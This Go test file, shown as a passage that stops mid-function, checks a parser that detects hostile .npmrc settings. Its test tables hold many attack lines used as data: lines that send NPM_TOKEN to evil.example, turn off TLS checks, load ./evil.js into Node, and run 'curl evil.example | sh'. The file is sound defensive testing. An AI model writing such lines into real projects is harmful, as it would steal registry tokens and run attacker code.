package npm_test

import (
	"encoding/base64"
	"errors"
	"io/fs"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"countermark/provenance/npm"
)

func npmrc(t *testing.T, path, text string) *npm.File {
	t.Helper()
	f, err := npm.ParseNpmrc(path, strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestParseNpmrc(t *testing.T) {
	for _, tt := range []struct {
		text string
		want []npm.Entry
	}{
		{"", nil},
		{"; a\n# b\n  ;c\n\t\n\n", nil},
		{"registry=https://registry.example/", []npm.Entry{{Line: 1, Key: "registry", Value: "https://registry.example/"}}},
		{"\ufeffa=1", []npm.Entry{{Line: 1, Key: "a", Value: "1"}}},
		{"a = 1 \r\n\r\nb\t=\t2\rc=3\n", []npm.Entry{{Line: 1, Key: "a", Value: "1"}, {Line: 3, Key: "b", Value: "2"}, {Line: 4, Key: "c", Value: "3"}}},
		{"a=b=c==", []npm.Entry{{Line: 1, Key: "a", Value: "b=c=="}}},
		{"a", []npm.Entry{{Line: 1, Key: "a", Value: "true"}}},
		{"a=", []npm.Entry{{Line: 1, Key: "a"}}},
		{"a=1 ; comment", []npm.Entry{{Line: 1, Key: "a", Value: "1"}}},
		{"a=1#comment", []npm.Entry{{Line: 1, Key: "a", Value: "1"}}},
		{`a=1\;2\#3\\4\5\`, []npm.Entry{{Line: 1, Key: "a", Value: `1;2#3\4\5\`}}},
		{`a="1;2#3\n4"`, []npm.Entry{{Line: 1, Key: "a", Value: "1;2#3\n4"}}},
		{`a="1" ; no comment behind quotes`, []npm.Entry{{Line: 1, Key: "a", Value: `"1"`}}},
		{`a='1;2'`, []npm.Entry{{Line: 1, Key: "a", Value: `1;2`}}},
		{`a='"x"'`, []npm.Entry{{Line: 1, Key: "a", Value: `x`}}},
		{`a="broken\q"`, []npm.Entry{{Line: 1, Key: "a", Value: `"broken\q"`}}},
		{`a='`, []npm.Entry{{Line: 1, Key: "a"}}},
		{`a="`, []npm.Entry{{Line: 1, Key: "a", Value: `"`}}},
		{`"a b"=1`, []npm.Entry{{Line: 1, Key: "a b", Value: "1"}}},
		{"ca[]=1\nca[]=2\n[]=3", []npm.Entry{{Line: 1, Key: "ca", Value: "1", Array: true}, {Line: 2, Key: "ca", Value: "2", Array: true}, {Line: 3, Key: "[]", Value: "3"}}},
		{"a=1\n[s]\nb=2\n['t']\nc=3", []npm.Entry{{Line: 1, Key: "a", Value: "1"}, {Line: 3, Section: "s", Key: "b", Value: "2"}, {Line: 5, Section: "t", Key: "c", Value: "3"}}},
		{"//registry.example/:_authToken=${T}", []npm.Entry{{Line: 1, Key: "//registry.example/:_authToken", Value: "${T}"}}},
	} {
		if diff := cmp.Diff(tt.want, npmrc(t, "f", tt.text).Entries); diff != "" {
			t.Errorf("%q (-want +got):\n%s", tt.text, diff)
		}
	}
}

func TestParseNpmrcErrors(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"a=1\n=2", ".npmrc:2: a line without a key"},
		{"a=1\r\n\r\n;c=1\r\n ;\r\n#\r\n= " + secret, ".npmrc:6: a line without a key"},
		{"[a", ".npmrc:1: a section header that is not closed"},
		{"a=\x00", ".npmrc:1: holds a control character"},
		{"a=\u2028b", ".npmrc:1: holds a control character"},
		{"a=\x1b[31m", ".npmrc:1: holds a control character"},
		{"\n\na=\xff", ".npmrc:3: is no UTF-8 text"},
		{strings.Repeat("a", 1<<20+1), ".npmrc: is larger than 1048576 bytes"},
	} {
		_, err := npm.ParseNpmrc(".npmrc", strings.NewReader(tt.text))
		var ce *npm.ConfigError
		if !errors.As(err, &ce) || err.Error() != tt.want || ce.Hint == "" {
			t.Errorf("%.20q: error %v, want %s", tt.text, err, tt.want)
		}
	}
}

func config(t *testing.T, s npm.Sources) *npm.Config {
	t.Helper()
	c, err := npm.NewConfig(s)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func registryOf(c *npm.Config, name string) string {
	u, err := c.Registry(name)
	if err != nil {
		return "refused"
	}
	return u.String()
}

func TestRegistry(t *testing.T) {
	const user, project = "https://user.example/", "https://project.example/npm/"
	userFile := npmrc(t, "user", "registry="+user+"\n@acme:registry="+user+"acme")
	projectFile := npmrc(t, ".npmrc", "registry="+project+"\n@other:registry=https://Other.Example:443/x")
	for _, tt := range []struct {
		name    string
		sources npm.Sources
		pkg     string
		want    string
	}{
		{"default", npm.Sources{}, "a", npm.PublicRegistry},
		{"user", npm.Sources{User: userFile}, "a", user},
		{"global", npm.Sources{Global: userFile}, "a", user},
		{"user beats global", npm.Sources{Global: projectFile, User: userFile}, "a", user},
		{"project beats user", npm.Sources{User: userFile, Project: projectFile}, "a", project},
		{"environment beats project", npm.Sources{Project: projectFile, Environ: []string{"NPM_CONFIG_REGISTRY=https://env.example"}}, "a", "https://env.example/"},
		{"flag beats all", npm.Sources{User: userFile, Project: projectFile, Registry: "https://flag.example", Environ: []string{"npm_config_registry=https://env.example"}}, "a", "https://flag.example/"},
		{"scope", npm.Sources{User: userFile, Project: projectFile}, "@acme/a", user + "acme/"},
		{"scope beats flag, as in npm", npm.Sources{User: userFile, Registry: "https://flag.example"}, "@acme/a", user + "acme/"},
		{"other scope", npm.Sources{User: userFile, Project: projectFile}, "@other/a", "https://other.example/x/"},
		{"no such scope", npm.Sources{User: userFile}, "@none/a", user},
		{"scope is exact", npm.Sources{User: userFile}, "@Acme/a", user},
		{"configured scope", npm.Sources{User: npmrc(t, "u", "scope=acme\n@acme:registry=https://acme.example")}, "a", "https://acme.example/"},
		{"empty is unset", npm.Sources{User: userFile, Project: npmrc(t, "p", "registry=")}, "a", user},
		{"null is unset", npm.Sources{User: userFile, Project: npmrc(t, "p", "registry=null")}, "a", user},
		{"last wins", npm.Sources{Project: npmrc(t, "p", "registry=https://a.example\nregistry=https://b.example")}, "a", "https://b.example/"},
		{"a section has no effect", npm.Sources{User: npmrc(t, "u", "[x]\nregistry=https://a.example")}, "a", npm.PublicRegistry},
		{"user's variable", npm.Sources{User: npmrc(t, "u", "registry=https://${H}/${P?}x"), Environ: []string{"H=h.example"}}, "a", "https://h.example/x/"},
		{"user's variable in the key", npm.Sources{User: npmrc(t, "u", "${S}:registry=https://h.example"), Environ: []string{"S=@s"}}, "@s/a", "https://h.example/"},
		{"quoted", npm.Sources{User: npmrc(t, "u", `registry="https://q.example"`)}, "a", "https://q.example/"},
		{"project's variable for a host of the user", npm.Sources{User: userFile, Project: npmrc(t, "p", "registry=https://user.example/${P}"), Environ: []string{"P=p"}}, "a", user + "p/"},
		{"project's loopback", npm.Sources{Project: npmrc(t, "p", "registry=http://127.0.0.1:4873")}, "a", "http://127.0.0.1:4873/"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := config(t, tt.sources)
			if got := registryOf(c, tt.pkg); got != tt.want {
				t.Errorf("registry of %s is %s, want %s", tt.pkg, got, tt.want)
			}
			if len(c.Issues()) > 0 {
				t.Errorf("issues: %v", c.Issues())
			}
		})
	}
}

// TestPublicToken: the line that many honest projects have is not obeyed, and
// said, but is no attack.
func TestPublicToken(t *testing.T) {
	line := strings.TrimPrefix(npm.PublicRegistry, "https:") + ":_authToken=${NPM_TOKEN}"
	c := config(t, npm.Sources{Project: npmrc(t, ".npmrc", line), Environ: []string{"NPM_TOKEN=x"}})
	if len(c.Issues()) != 0 || len(c.Warnings()) != 1 {
		t.Errorf("issues %+v, warnings %+v", c.Issues(), c.Warnings())
	}
	u, err := url.Parse(npm.PublicRegistry)
	if err != nil {
		t.Fatal(err)
	}
	if got := c.Credentials(u).Authorization(); got != "" {
		t.Error("the variable is sent")
	}
}

// Every line of these is an attack: it must be named with its line, and nothing
// of it may be obeyed.
func TestHostileProject(t *testing.T) {
	user := npmrc(t, "user", "registry=https://user.example/\n//user.example/:_authToken="+secret+"\n//port.example:8443/:_authToken="+secret)
	env := []string{"NPM_TOKEN=" + secret, "HOST=evil.example", "EMPTY="}
	for _, tt := range []struct {
		line    string
		message string
	}{
		{"//evil.example/:_authToken=${NPM_TOKEN}", "does not name"},
		{"//evil.example/:_authToken=${NPM_TOKEN?}", "does not name"},
		{"//evil.example/:_auth=${NPM_TOKEN}", "does not name"},
		{"//evil.example/:_password=${NPM_TOKEN}", "does not name"},
		{"//evil.example/:username=${NPM_TOKEN}", "does not name"},
		{`//evil.example/:_authToken=\\${NPM_TOKEN}`, "literal credential"}, // one backslash is left, which makes it text
		{`//evil.example/:_authToken=\\\\${NPM_TOKEN}`, "does not name"},    // two are left: a backslash and the variable
		{"//user.example.evil.example/:_authToken=${NPM_TOKEN}", "does not name"},
		{"//user.example:8443/:_authToken=${NPM_TOKEN}", "does not name"},
		{"//port.example/:_authToken=${NPM_TOKEN}", "does not name"},
		{"//${HOST}/:_authToken=x", "variable in the key"},
		{"${EMPTY}registry=https://evil.example/", "variable in the key"},
		{"registry=https://evil.example/${NPM_TOKEN}/", "does not name"},
		{"registry=https://${HOST}/", "does not name"},
		{"registry=https://user.example${EMPTY}/", "does not name"},
		{"registry=https://user.example:${EMPTY}@evil.example/", "does not name"},
		{"registry=https://user.example@evil.example/${NPM_TOKEN}", "does not name"},
		{"registry=https://user.example:8443/${NPM_TOKEN}", "does not name"},
		{"registry=${HOST}", "does not name"},
		{"@acme:registry=https://evil.example/${NPM_TOKEN}/", "does not name"},
		{"registry=http://evil.example/", "http:"},
		{"registry=http://user.example/", "http:"},
		{"registry=http://user.example/${EMPTY}", "http:"},
		{"registry=https://me:" + secret + "@evil.example/", "literal credential"},
		{"//user.example/:_authToken=" + secret, "literal credential"},
		{"//user.example/:_authToken=${EMPTY}" + secret, "literal credential"},
		{"//user.example/:_auth=abc", "literal credential"},
		{"_authToken=" + secret, "literal credential"},
		{"_auth=abc", "literal credential"},
		{"_authToken=${NPM_TOKEN}", "whatever registry"},
		{"[x]\n//user.example/:_authToken=" + secret, "literal credential"},
		{"scope=${NPM_TOKEN}", "variable in the scope"},
		{"proxy=http://evil.example:8080", "another host"},
		{"https-proxy=http://evil.example:8080", "another host"},
		{"noproxy=user.example", "off the user's proxy"},
		{"strict-ssl=false", "verification of TLS"},
		{"strict-ssl", "verification of TLS"},
		{"cafile=./evil.pem", "authorities"},
		{"ca[]=evil", "authorities"},
		{"cert=evil", "client certificate"},
		{"//user.example/:certfile=./evil.pem", "how a registry is reached"},
		{"//user.example/:_keys=x", "how a registry is reached"},
		{"//user.example/:tokenHelper=/bin/sh", "how a registry is reached"},
		{"userconfig=./evil", "user's own configuration"},
		{"globalconfig=./evil", "machine's configuration"},
		{"prefix=./evil", "machine's configuration"},
		{"cache=./evil", "cache"},
		{"git=./evil.sh", "program"},
		{"script-shell=./evil.sh", "program"},
		{"node-options=--require ./evil.js", "every Node program"},
		{"node-options=--experimental_loader=./evil.mjs", "every Node program"},
		{"node-options=--re\"\"quire ./evil.js", "every Node program"},
		{"user-agent=${NPM_TOKEN}", "every registry is told"},
		{"package=evil", "what npx fetches"},
		{"package[]=evil", "what npx fetches"},
		{"call=curl evil.example | sh", "what npx runs"},
		{"package-lock=false", "ignore the lockfile"},
		{"package-lock=0", "ignore the lockfile"},
		{"shrinkwrap=false", "ignore the lockfile"},
		{"replace-registry-host=always", "hosts that the lockfile names"},
		{"replace-registry-host=mirror.example", "hosts that the lockfile names"},
		{"global", "the machine instead"},
		{"location=global", "the machine instead"},
		{"workspace=evil", "in which folder"},
		{"workspaces=true", "in which folders"},
		{"yes=true", "question"},
		{"dangerously-allow-all-scripts=true", "every package"},
		{"init.module=./evil.js", "program"},
		{"disturl=https://evil.example/", "headers"},
		{"electron_mirror=https://evil.example/", "download programs"},
		{"sharp-binary-host=https://evil.example/", "download programs"},
		{"password=abc", "credential"},
	} {
		t.Run(tt.line, func(t *testing.T) {
			c := config(t, npm.Sources{User: user, Project: npmrc(t, ".npmrc", "# first\n"+tt.line), Environ: env})
			issues := c.Issues()
			if len(issues) != 1 {
				t.Fatalf("issues: %+v", issues)
			}
			i := issues[0]
			line := 2 + strings.Count(tt.line, "\n")
			if i.Path != ".npmrc" || i.Line != line || !strings.Contains(i.Message, tt.message) || i.Fix == "" || i.Key == "" {
				t.Errorf("issue %+v; want line %d, %q", i, line, tt.message)
			}
			if text := i.Key + i.Message + i.Fix; strings.Contains(text, secret) || strings.Contains(text, "abc") {
				t.Errorf("issue quotes a value: %+v", i)
			}
			for _, name := range []string{"a", "@acme/a"} {
				if r := registryOf(c, name); r != "https://user.example/" && r != "refused" {
					t.Errorf("registry of %s is %s", name, r)
				}
			}
			for _, raw := range []string{"https://evil.example/", "https://user.example.evil.example/", "https://user.example:8443/", "https://port.example/", npm.PublicRegistry} {
				if got := authorization(t, c, raw); got != "" {
					t.Errorf("%s would be sent %q", raw, got)
				}
			}
			if got := authorization(t, c, "https://user.example/x"); got != "Bearer "+secret {
				t.Errorf("the user's own registry would be sent %q", got)
			}
			if diff := cmp.Diff([]string{npm.PublicRegistry, "https://user.example/"}, c.Trusted()); diff != "" {
				t.Errorf("trusted (-want +got):\n%s", diff)
			}
		})
	}
}

// What honest projects write stays silent.
func TestHarmlessKeys(t *testing.T) {
	const lines = "engine-strict=true\nnode-options=--max-old-space-size=4096\nsave-exact=true\nsave-prefix=~\nfund=false\naudit=false\naudit-level=high\nlegacy-peer-deps=true\n" +
		"force=true\nnode-linker=hoisted\nauto-install-peers=true\nstrict-peer-dependencies=false\nstrict-peer-deps=true\nloglevel=error\n" +
		"progress=false\nupdate-notifier=false\nshamefully-hoist=true\npublic-hoist-pattern[]=*eslint*\nhoist=false\nlink-workspace-packages=true\n" +
		"package-lock=true\nshrinkwrap=true\nignore-scripts=true\nallow-scripts[]=esbuild\nglobal=false\nlocation=project\nworkspaces=false\n" +
		"dangerously-allow-all-scripts=false\nreplace-registry-host=never\nprefer-offline=true\nprefer-dedupe=true\ninstall-strategy=nested\nworkspaces-update=false\n" +
		"include-workspace-root=true\nlockfile-version=3\nomit=optional\noptional=false\nmin-release-age=7\nprovenance=true\naccess=public\ntag=next\n" +
		"git-tag-version=false\ntag-version-prefix=\nmessage=release %s\nsign-git-tag=true\ninit-license=MIT\nresolution-mode=highest\nuse-node-version=22.0.0\n"
	c := config(t, npm.Sources{Project: npmrc(t, ".npmrc", lines)})
	for _, i := range c.Issues() {
		t.Errorf("%s: %s", i.Key, i.Message)
	}
}

func TestProjectRegistries(t *testing.T) {
	user := npmrc(t, "user", "@own:registry=https://user.example/")
	for _, tc := range []struct {
		project, name string
		environ       []string
		want          string
	}{
		{project: "registry=https://mirror.example", name: "a", want: "https://mirror.example/"},
		{project: "registry=https://mirror.example", name: "@acme/a", want: "https://mirror.example/"},
		{project: "@acme:registry=https://mirror.example", name: "@acme/a", want: "https://mirror.example/"},
		{project: "@acme:registry=https://mirror.example", name: "a"},
		{project: "@acme:registry=https://mirror.example\nscope=acme", name: "a", want: "https://mirror.example/"},
		{project: "@acme:registry=https://one.example\nregistry=https://two.example", name: "@acme/a", want: "https://one.example/ https://two.example/"},
		{project: "registry=https://mirror.example", name: "a", environ: []string{"npm_config_registry=https://user.example/"}},
		{project: "registry=http://mirror.example/", name: "a", want: "http://mirror.example/"},             // refused here, but not by npm
		{project: "registry=https://u:hunter2@mirror.example/", name: "a", want: "https://mirror.example/"}, // refused, too
		{project: "registry=https://${HOST}/", name: "a", want: "https://${HOST}/"},                         // and this
		{project: "registry=" + npm.PublicRegistry, name: "a", want: npm.PublicRegistry},                    // which is trusted
		{project: "fund=false", name: "@own/a"},
	} {
		c := config(t, npm.Sources{User: user, Project: npmrc(t, ".npmrc", tc.project), Environ: tc.environ})
		if got := strings.Join(c.ProjectRegistries(tc.name), " "); got != tc.want {
			t.Errorf("%s: %s is asked of %q, want %q", tc.project, tc.name, got, tc.want)
		}
	}
}

func TestOnPublicRegistry(t *testing.T) {
	public := strings.TrimSuffix(npm.PublicRegistry, "/")
	for raw, want := range map[string]bool{
		public + "/a/-/a-1.0.0.tgz": true, strings.ToUpper(public) + ":443/a": true, strings.Replace(public, "https", "http", 1) + "/a": true,
		public + ".evil.example/a": false, "https://mirror.example/a": false, "": false, ":": false,
	} {
		if got := npm.OnPublicRegistry(raw); got != want {
			t.Errorf("%s: %v", raw, got)
		}
	}
}

func TestRefusedRegistryIsNotReplaced(t *testing.T) {
	c := config(t, npm.Sources{Project: npmrc(t, "p/.npmrc", "\n@acme:registry=http://nexus.example/")})
	_, err := c.Registry("@acme/a")
	var refused *npm.RefusedError
	if !errors.As(err, &refused) || refused.Issue.Line != 2 || !strings.HasPrefix(err.Error(), "p/.npmrc:2: ") {
		t.Errorf("error %v", err)
	}
	if r := registryOf(c, "a"); r != npm.PublicRegistry {
		t.Errorf("registry of another package: %s", r)
	}
}

func TestHarmlessProject(t *testing.T) {
	c := config(t, npm.Sources{
		User: npmrc(t, "user", "@acme:registry=https://npm.acme.example/"),
		Project: npmrc(t, ".npmrc", "save-exact=true\nengine-strict\nlegacy-peer-deps=true\nfund=false\nignore-scripts=true\n"+
			"@acme:registry=https://npm.acme.example/\n//npm.acme.example/:_authToken=${ACME}\n//npm.acme.example/:email=a@b.example\n"+
			"//npm.acme.example/:always-auth=true\n//registry.example/:_authToken=\nregistry=https://registry.example/"),
		Environ: []string{"ACME=t"},
	})
	if len(c.Issues()) > 0 || len(c.Warnings()) > 0 {
		t.Errorf("issues %v, warnings %v", c.Issues(), c.Warnings())
	}
	if got := authorization(t, c, "https://npm.acme.example/@acme%2fa"); got != "Bearer t" {
		t.Errorf("sent %q", got)
	}
}

func TestTrusted(t *testing.T) {
	c := config(t, npm.Sources{
		Global:   npmrc(t, "g", "registry=https://global.example"),
		User:     npmrc(t, "u", "registry=https://user.example/"+secret+"/\n@acme:registry=https://acme.example/npm"),
		Project:  npmrc(t, "p", "registry=https://project.example/\n@evil:registry=https://evil.example/"),
		Environ:  []string{"npm_config_registry=https://env.example/"},
		Registry: "https://me:pass@flag.example/",
	})
	want := []string{
		"https://acme.example/npm/", "https://env.example/", "https://flag.example/", "https://global.example/",
		npm.PublicRegistry, "https://user.example/REDACTED/",
	}
	if diff := cmp.Diff(want, c.Trusted()); diff != "" {
		t.Errorf("trusted (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{npm.PublicRegistry}, (&npm.Config{}).Trusted()); diff != "" {
		t.Errorf("trusted by default (-want +got):\n%s", diff)
	}
}

// Inside of npx, npm exports what the project's file says as npm_config_*.
func TestEchoOfTheProject(t *testing.T) {
	project := npmrc(t, ".npmrc", "registry=https://evil.example/\nuserconfig=./evil\nproxy=http://evil.example:1")
	environ := []string{
		"npm_config_registry=https://evil.example/", "npm_config_userconfig=/p/evil", "npm_config_proxy=http://evil.example:1",
		"NO_PROXY=x.example",
	}
	inside := append([]string{"npm_execpath=/usr/lib/npm-cli.js"}, environ...)

	c := config(t, npm.Sources{Project: project, Environ: inside})
	if diff := cmp.Diff([]string{npm.PublicRegistry}, c.Trusted()); diff != "" {
		t.Errorf("trusted (-want +got):\n%s", diff)
	}
	if len(c.Warnings()) != 2 {
		t.Errorf("warnings: %v", c.Warnings())
	}
	if got := npm.UserConfig(inside, "/home/me", project); got != "/home/me/.npmrc" {
		t.Errorf("user's file %s", got)
	}
	if got := npm.UserConfig(environ, "/home/me", project); got != "/p/evil" {
		t.Errorf("user's file outside of npm %s", got)
	}
	if got := npm.UserConfig([]string{"NPM_CONFIG_USERCONFIG=~/x", "NPM_CONFIG_CACHE="}, "/home/me", nil); got != "/home/me/x" {
		t.Errorf("user's file in the home folder %s", got)
	}
	if got := npm.UserConfig(nil, "", nil); got != "" {
		t.Errorf("user's file without a home %s", got)
	}
	own := config(t, npm.Sources{Project: npmrc(t, ".npmrc", "fund=false"), Environ: inside})
	if registryOf(own, "a") != "https://evil.example/" || len(own.Trusted()) != 2 {
		t.Errorf("the user's own variable was not followed")
	}
}

func authorization(t *testing.T, c *npm.Config, raw string) string {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return c.Credentials(u).Authorization()
}

func TestCredentials(t *testing.T) {
	c := config(t, npm.Sources{
		User: npmrc(t, "user", strings.Join([]string{
			"//a.example/:_authToken=host",
			"//a.example/npm/:_authToken=${T}",
			"//a.example/npm/deep:_auth=YTpi",
			"//a.example:8443/:_authToken=port",
			"//b.example:_authToken=bare",
			"//c.example/:username=me",
			"//c.example/:_password=cMOkc3M=",
			"//d.example/:username=me",
			"//e.example/:_authToken=token",
			"//e.example/:_auth=basic",
			"//f.example/:_authToken=host",
			"//f.example/tls/:certfile=c.pem",
			"//f.example/tls/:keyfile=k.pem",
			"//g.example/:_authToken=${UNSET}",
			"registry=https://me:pass@h.example/npm",
		}, "\n")),
		Environ: []string{"T=path", "npm_config_//i.example/:_authToken=env"},
	})
	for _, tt := range []struct{ url, want string }{
		{"https://a.example/", "Bearer host"},
		{"https://a.example/other/x", "Bearer host"},
		{"https://A.example:443/npm/@s%2fx", "Bearer path"},
		{"https://a.example/npm", "Bearer host"},
		{"https://a.example/npmx/", "Bearer host"},
		{"https://a.example/npm/deep/x", "Basic YTpi"},
		{"https://a.example/npm/deeper", "Bearer path"},
		{"https://a.example:8443/npm/", "Bearer port"},
		{"https://a.example:9/", ""},
		{"https://b.example/x/y", "Bearer bare"},
		{"https://c.example/", "Basic bWU6cMOkc3M="},
		{"https://d.example/", ""},
		{"https://e.example/", "Bearer token"},
		{"https://f.example/x", "Bearer host"},
		{"https://f.example/tls/x", ""},
		{"https://g.example/", ""},
		{"https://h.example/npm/x", "Basic bWU6cGFzcw=="},
		{"https://h.example/", ""},
		{"https://i.example/", "Bearer env"},
		{npm.PublicRegistry, ""},
	} {
		if got := authorization(t, c, tt.url); got != tt.want {
			t.Errorf("%s would be sent %q, want %q", tt.url, got, tt.want)
		}
	}
	var keys []string
	for _, w := range c.Warnings() {
		keys = append(keys, w.Key)
	}
	want := []string{"//g.example/:_authToken"}
	if diff := cmp.Diff(want, keys); diff != "" {
		t.Errorf("warned of (-want +got):\n%s", diff)
	}
}

func TestWarnings(t *testing.T) {
	for _, tt := range []struct{ line, message string }{
		{"strict-ssl=false", "always verified"},
		{"strict-ssl=0", "always verified"},
		{"_authToken=x", "bound to no registry"},
		{"cert=x", "stands without key"},
		{"cert=x\nkey=y", "sent to nobody"},
		{"//x.example/:certfile=y", "stands without keyfile"},
		{"maxsockets=3", "not supported yet"},
		{"//x.example/:_keys=y", "not supported yet"},
		{"[s]\nregistry=https://x.example/", "[section]"},
		{"${NO}=1", "not set"},
		{"registry=http://x.example/", "http:"},
	} {
		c := config(t, npm.Sources{User: npmrc(t, "user", tt.line)})
		if w := c.Warnings(); len(w) != 1 || !strings.Contains(w[0].Message, tt.message) || w[0].Line == 0 || w[0].Fix == "" {
			t.Errorf("%q: warnings %+v", tt.line, w)
		}
		if len(c.Issues()) > 0 {
			t.Errorf("%q: issues %+v", tt.line, c.Issues())
		}
	}
}

func TestConfigErrors(t *testing.T) {
	for _, tt := range []struct {
		sources npm.Sources
		want    string
	}{
		{npm.Sources{User: npmrc(t, "u", "\nregistry=nonsense")}, "u:2: registry: is no https URL"},
		{npm.Sources{Project: npmrc(t, "p", "registry=file:///etc")}, "p:1: registry: is no https URL"},
		{npm.Sources{Project: npmrc(t, "p", "registry[]=https://a.example")}, "p:1: registry: takes one value, not a list"},
		{npm.Sources{Project: npmrc(t, "p", "@a:registry=https://a.example/?t="+secret)}, "p:1: @a:registry: has a query or fragment"},
		{npm.Sources{Project: npmrc(t, "p", "registry=https://a.example/x/../y")}, "p:1: registry: has a path that leads elsewhere"},
		{npm.Sources{Project: npmrc(t, "p", "registry=https://а.example/")}, "p:1: registry: has a host that is not plain ASCII"},
		{npm.Sources{Project: npmrc(t, "p", `registry=https://a.example\\@evil.example/`)}, "p:1: registry: is no URL"},
		{npm.Sources{Project: npmrc(t, "p", "registry=https:///x")}, "p:1: registry: names no host"},
		{npm.Sources{Project: npmrc(t, "p", "registry=https://a.example/${X}"), Registry: "https://a.example"}, "p:1: registry: the environment variable X is not set"},
		{npm.Sources{User: npmrc(t, "u", "registry=https://${X}/")}, "u:1: registry: the environment variable X is not set"},
		{npm.Sources{User: npmrc(t, "u", "//a.example/:_password=!!")}, "u:1: //a.example/:_password: is no base64"},
		{npm.Sources{Registry: "x"}, "--registry: registry: is no https URL"},
		{npm.Sources{Environ: []string{"NPM_CONFIG_REGISTRY=x"}}, "npm_config_registry: registry: is no https URL"},
	} {
		_, err := npm.NewConfig(tt.sources)
		var ce *npm.ConfigError
		if !errors.As(err, &ce) || err.Error() != tt.want || ce.Hint == "" {
			t.Errorf("error %v, want %s", err, tt.want)
		}
	}
}

// Whatever the project's file says, the user's variable only ever reaches hosts
// that the user named, and never the texts.
func FuzzProject(f *testing.F) {
	for _, s := range []string{
		"//evil.example/:_authToken=${T}", "registry=https://evil.example/${T}/", `registry="https://user.example\u002e${T}/"`,
		"registry=https://user.example:${T}@evil.example/", "a[]=1\n[s]\n; c\n'x'=\"y\"", "registry=https://user.example/${T}",
		"@acme:registry=HTTPS://USER.example:443/${T}\n//user.example/:_authToken=${T}", `registry=https://user.example\\\\${T}`,
	} {
		f.Add(s)
	}
	const canary = "canary0canary"
	user, err := npm.ParseNpmrc("user", strings.NewReader("registry=https://user.example/"))
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if strings.Contains(text, canary) {
			t.Skip("the file has the value already")
		}
		file, err := npm.ParseNpmrc("p", strings.NewReader(text))
		if err != nil {
			return
		}
		last := 0
		for _, e := range file.Entries {
			if e.Line <= last || e.Key == "" {
				t.Fatalf("entry %+v behind line %d", e, last)
			}
			last = e.Line
		}
		c, err := npm.NewConfig(npm.Sources{User: user, Project: file, Environ: []string{"T=" + canary}})
		if err != nil {
			if strings.Contains(err.Error(), canary) {
				t.Fatalf("error quotes the value: %v", err)
			}
			return
		}
		for _, i := range append(c.Issues(), c.Warnings()...) {
			if strings.Contains(i.Key+i.Message+i.Fix, canary) {
				t.Fatalf("issue quotes the value: %+v", i)
			}
		}
		for _, name := range []string{"a", "@acme/a", "@s/a"} {
			u, err := c.Registry(name)
			if err != nil {
				continue
			}
			if sent := u.String() + c.Credentials(u).Authorization(); strings.Contains(sent, canary) && u.Host != "user.example" {
				t.Fatalf("%s would be sent the value", u.Host)
			}
		}
		for _, host := range []string{"evil.example", "registry.example", "user.example:1"} {
			if got := authorization(t, c, "https://"+host+"/x/"); strings.Contains(got, canary) {
				t.Fatalf("%s would be sent the value", host)
			}
		}
	})
}

// TestIPv6Hosts: an address in brackets is a host like any other, with its port or
// without.
func TestIPv6Hosts(t *testing.T) {
	user := npmrc(t, "u", "registry=https://[2001:DB8::1]:443/npm\n@local:registry=http://[::1]:4873/\n"+
		"//[2001:db8::1]/npm/:_authToken=one\n//[::1]:4873/:_authToken=two\n")
	project := npmrc(t, "p", "@acme:registry=https://[2001:db8::1]:443/${TEAM}/\n@evil:registry=https://[2001:db8::2]/${TEAM}/\n")
	c := config(t, npm.Sources{User: user, Project: project, Environ: []string{"TEAM=blue"}})
	for name, want := range map[string]string{
		"a": "https://[2001:db8::1]/npm/ Bearer one", "@local/a": "http://[::1]:4873/ Bearer two", "@acme/a": "https://[2001:db8::1]/blue/ ",
	} {
		u, err := c.Registry(name)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if got := u.String() + " " + c.Credentials(u).Authorization(); got != want {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
	}
	if _, err := c.Registry("@evil/a"); err == nil {
		t.Error("a variable goes to an address that the user does not name")
	}
	if w := c.Warnings(); len(w) > 0 {
		t.Errorf("warnings: %v", w) // http: to this machine itself is none
	}
}

// TestUserKeys: every key of npm's documentation about credentials and TLS is
// followed, or there is a warning or an error: nothing is dropped in silence, and
// nothing makes TLS weaker.
func TestUserKeys(t *testing.T) {
	const host = "//registry.example/:"
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("me:secret"))
	password := base64.StdEncoding.EncodeToString([]byte("secret"))
	environ := []string{"TOKEN=abc"}
	for lines, want := range map[string]string{
		host + "_authToken=abc":                                 "Bearer abc",
		host + "_authToken=${TOKEN}":                            "Bearer abc",
		host + "_authToken=${TOKEN?}":                           "Bearer abc",
		host + "_authToken=${UNSET?}":                           "",
		host + "_authToken=${UNSET}":                            "warning",
		host + "_authToken=\\${TOKEN}":                          "Bearer ${TOKEN}",
		host + "_auth=" + strings.TrimPrefix(basic, "Basic "):   basic,
		host + "username=me\n" + host + "_password=" + password: basic,
		host + "username=me\n" + host + "_password=no base64!":  "error",
		host + "username=me":                                    "",
		host + "_password=" + password:                          "",
		host + "certfile=/c.pem\n" + host + "keyfile=/k":        "",
		host + "certfile=/c.pem":                                "warning",
		host + "keyfile=/k":                                     "warning",
		host + "cert=abc\n" + host + "keyfile=/k":               "warningwarning",
		"_auth=abc":                      "warning",
		"_authToken=abc":                 "warning",
		"_password=abc":                  "warning",
		"cert=abc":                       "warning",
		"key=abc":                        "warning",
		"cert=abc\nkey=abc":              "",
		"strict-ssl=false":               "warning",
		"strict-ssl=0":                   "warning",
		"strict-ssl=true":                "",
		"cafile=${UNSET}":                "error",
		"cafile=/missing.pem":            "transport",
		"ca=nonsense":                    "transport",
		"ca[]=nonsense\nca[]=more":       "transport",
		"https-proxy=nonsense":           "transport",
		"https-proxy=${UNSET}":           "error",
		"https-proxy=http://p.example:1": "",
		"noproxy=x.example":              "",
	} {
		c, err := npm.NewConfig(npm.Sources{User: npmrc(t, "u", lines), Registry: "https://registry.example/", Environ: environ})
		got := "error"
		if err == nil {
			u, _ := c.Registry("a")
			got = c.Credentials(u).Authorization()
			got += strings.Repeat("warning", len(c.Warnings()))
